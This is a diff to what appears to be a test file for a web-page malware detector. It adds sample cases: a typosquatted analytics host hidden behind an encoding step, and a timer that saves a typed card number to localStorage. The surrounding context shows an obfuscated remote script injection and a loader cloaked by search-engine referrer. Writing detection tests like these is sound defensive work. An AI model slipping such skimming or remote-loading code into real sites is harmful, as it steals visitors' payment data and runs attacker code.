@@ -43,6 +43,14 @@ const cases: Record<string, [string, string[]]> = {
     `var s = document.createElement('script'); s.src = 'https://' + ['en', 'gine'].join('') + '.x-cdn.example/a.js'; document.head.appendChild(s);`,
     [],
   ],
+  'a host that borrows a name, decoded and not yet used': [
+    `var to = ${hidden('https://google-analytlcs.example.test/')}; var too = ${hidden('https://www.google-analytics.example/x')};`,
+    ['medium imitated-host'],
+  ],
+  'typed card data that is kept': [
+    `setTimeout(function () { localStorage.setItem('k', document.querySelector('#cc_number').value) }, 100)`,
+    ['medium card-data-stored'],
+  ],
   'an answer that is run': [loader, ['medium remote-code']],
   'an answer that is run for visitors from search engines': [
     `if (document.referrer.indexOf('google') > 0) { ${loader} }`,
